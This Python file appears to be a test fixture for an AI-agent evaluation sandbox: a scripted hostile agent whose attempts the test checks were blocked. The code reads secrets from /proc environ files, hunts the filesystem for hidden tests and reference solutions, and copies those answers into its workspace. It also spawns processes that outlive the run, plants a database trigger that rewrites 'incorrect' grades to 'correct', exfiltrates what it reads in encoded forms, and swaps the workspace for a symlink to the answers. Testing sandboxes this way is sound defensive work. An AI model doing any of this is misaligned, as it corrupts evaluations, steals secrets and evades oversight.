#!/usr/bin/python3
"""A hostile coding agent (run by the `command` adapter): it tries to cheat every way the agent
sandbox must stop, applies any reference solution it finds, and exfiltrates whatever it read
(plain, reversed, hex and base64) into its workspace, its report and its stdout.

argv: MODEL_URL OUTPUT_DIR TARGETS_JSON. Standard library only: it runs on the toolchain's
python3 in both sandboxes. The test decides from outside whether each attempt failed; the
summary this prints is only what the agent itself believes.
"""

import base64
import json
import os
import shutil
import socket
import sqlite3
import subprocess
import sys
import time
import urllib.request

SKIP = {"/proc", "/sys", "/dev", "/usr", "/lib", "/lib32", "/lib64", "/libx32", "/bin",
        "/sbin", "/boot", "/var/lib/docker"}
MAX_FILES, MAX_SECONDS = 20000, 15.0


def walk(roots, seen, max_depth=12):
    """Every readable file under the roots, breadth first, within a file and time budget."""
    started = time.monotonic()
    queue = [(root, 0) for root in roots]
    while queue:
        folder, depth = queue.pop(0)
        if folder in SKIP or len(seen) >= MAX_FILES or time.monotonic() - started > MAX_SECONDS:
            continue
        try:
            entries = list(os.scandir(folder))
        except OSError:
            if os.path.isfile(folder) and folder not in seen:
                seen.add(folder)
                yield folder
            continue
        for entry in entries:
            try:
                if entry.is_dir(follow_symlinks=False):
                    if depth < max_depth:
                        queue.append((entry.path, depth + 1))
                elif entry.is_file(follow_symlinks=False) and entry.path not in seen:
                    seen.add(entry.path)
                    yield entry.path
            except OSError:
                continue


def read(path, limit=4 << 20):
    try:
        with open(path, "rb") as handle:
            return handle.read(limit)
    except OSError:
        return None


def tar_members(data):
    import gzip
    import io
    import tarfile
    try:
        with tarfile.open(fileobj=io.BytesIO(gzip.decompress(data))) as archive:
            for member in archive.getmembers():
                if member.isreg():
                    yield member.name, archive.extractfile(member).read()
    except Exception:
        return


def main():
    model_url, out_dir, targets = sys.argv[1], sys.argv[2], json.loads(sys.argv[3])
    workspace = os.getcwd()
    canaries = targets["canaries"]
    results, loot = {}, []

    def found(kind, where, data):
        loot.append((kind, where, data))
        results[kind] = f"GOT {where}"

    # -- reference solutions and hidden tests, wherever they are: fixture cache, artifact store,
    #    the checkout's fixtures/, the study's fixture copy, a copy elsewhere; then all of /
    solution_dirs = []
    seen = set()
    for path in walk(targets["search_roots"] + ["/"], seen):
        data = read(path)
        if data is None:
            continue
        blobs = [(path, data)] + [(f"{path}!{n}", b) for n, b in tar_members(data)]
        for where, blob in blobs:
            for kind in ("solution", "hidden", "other_run", "home", "secret"):
                if canaries[kind].encode() in blob:
                    found(kind, where, blob)
            if "solutions/correct/" in where and not where.count("!") and \
                    canaries["solution"].encode() in blob:
                solution_dirs.append(path.split("solutions/correct/")[0] + "solutions/correct")
    for kind in ("solution", "hidden", "other_run", "home", "secret"):
        results.setdefault(kind, f"blocked: not found in {len(seen)} readable files")
    for folder in dict.fromkeys(solution_dirs):
        shutil.copytree(folder, workspace, dirs_exist_ok=True)  # cheat: the answer is ours

    # -- the worker's environment: our parent, and every process we can see
    environ_hits = []
    for pid in ["1", str(os.getppid())] + [p for p in os.listdir("/proc") if p.isdigit()]:
        data = read(f"/proc/{pid}/environ") or b""
        if canaries["env"].encode() in data or canaries["secret"].encode() in data:
            environ_hits.append(pid)
            found("environ", f"/proc/{pid}/environ", data)
    results.setdefault("environ", "blocked: no canary in any /proc/*/environ")
    results["pid1_environ"] = (read("/proc/1/environ") or b"").decode(errors="replace")
    for name, value in os.environ.items():
        if canaries["secret"] in value:
            found("env_key", name, value.encode())
    results.setdefault("env_key", "blocked: own environment holds no real key")

    # -- writes outside the workspace
    for label, path in targets["write_targets"].items():
        try:
            with open(path, "w") as handle:
                handle.write("pwned\n")
            results[f"write_{label}"] = f"wrote {path} (as far as this sandbox shows)"
        except OSError as exc:
            results[f"write_{label}"] = f"blocked: {exc}"

    # -- the host's disk: how much the workspace's file system would take (no need to fill it)
    stats = os.statvfs(workspace)
    results["disk_bytes"] = stats.f_blocks * stats.f_frsize

    # -- processes that outlive the run: setsid, and a double fork with setsid
    token = canaries["process"]
    subprocess.Popen(["setsid", "/bin/sh", "-c", f"sleep 600; : {token}-setsid"],
                     stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                     stderr=subprocess.DEVNULL, start_new_session=True)
    first = os.fork()
    if first == 0:
        os.setsid()
        if os.fork() == 0:
            null = os.open(os.devnull, os.O_RDWR)
            for fd in (0, 1, 2):
                os.dup2(null, fd)
            os.execv("/bin/sh", ["/bin/sh", "-c", f"sleep 600; : {token}-doublefork"])
        os._exit(0)
    os.waitpid(first, 0)
    results["processes"] = "started two (the test looks for them after the run)"

    # -- networks: a loopback listener that is not the door; a host in a network namespace
    for label, (host, port) in targets["connect"].items():
        try:
            socket.create_connection((host, port), timeout=2).close()
            results[f"connect_{label}"] = f"GOT {host}:{port}"
        except OSError as exc:
            results[f"connect_{label}"] = f"blocked: {exc}"

    # -- the results database: a trigger the results service would run
    try:
        db = sqlite3.connect(f"file:{targets['database']}?mode=rw", uri=True, timeout=2)
        db.execute(f"CREATE TRIGGER {targets['trigger']} AFTER UPDATE ON attempts BEGIN "
                   "UPDATE attempts SET outcome = 'correct' WHERE outcome = 'incorrect'; END")
        db.commit()
        results["database"] = "GOT a trigger in"
    except Exception as exc:
        results["database"] = f"blocked: {exc}"

    # -- the one door that must work: the model endpoint, with whatever key we were given
    request = urllib.request.Request(
        model_url + "/v1/messages", method="POST",
        data=json.dumps({"model": "claude-sonnet-4-5", "max_tokens": 8,
                         "messages": [{"role": "user", "content": "hi"}]}).encode(),
        headers={"content-type": "application/json",
                 "x-api-key": os.environ.get("ANTHROPIC_API_KEY", "")})
    try:
        with urllib.request.urlopen(request, timeout=20) as response:
            results["door"] = f"ok {response.status}"
    except Exception as exc:
        results["door"] = f"failed: {exc}"

    # -- exfiltration of everything read, in forms a plain-string redaction misses
    lines = []
    for kind, where, data in loot:
        for form in (data, data[::-1], data.hex().encode(), base64.b64encode(data)):
            lines.append(f"{kind} {where} ".encode() + form)
    with open(os.path.join(workspace, "loot.txt"), "wb") as handle:
        handle.write(b"\n".join(lines))
    os.makedirs(out_dir, exist_ok=True)
    with open(os.path.join(out_dir, "report.txt"), "wb") as handle:
        handle.write(b"\n".join(lines) or b"nothing found")
    # -- no answer found in here: put a link to a host copy of it where the workspace was,
    #    for evalq to collect and grade from outside (this run's own work goes, so: last)
    if not solution_dirs:
        os.chdir("/")
        # in a task's environment the working folder is a mount on a read-only root: the
        # same workspace is still the profile's, beside HOME
        beside_home = os.path.join(os.path.dirname(os.environ.get("HOME", "/")), "workspace")
        for path in dict.fromkeys((workspace, beside_home)):
            try:
                os.rename(path, path + ".mine")
                os.symlink(targets["solution_dir"], path)
                results["workspace_swap"] = f"{path} -> {targets['solution_dir']}"
                break
            except OSError as exc:
                results["workspace_swap"] = f"blocked: {exc}"
    print(json.dumps({"type": "hostile", "results": results}), flush=True)
    sys.stdout.buffer.write(b"\n".join(lines) + b"\n")
    return 0


if __name__ == "__main__":
    sys.exit(main())
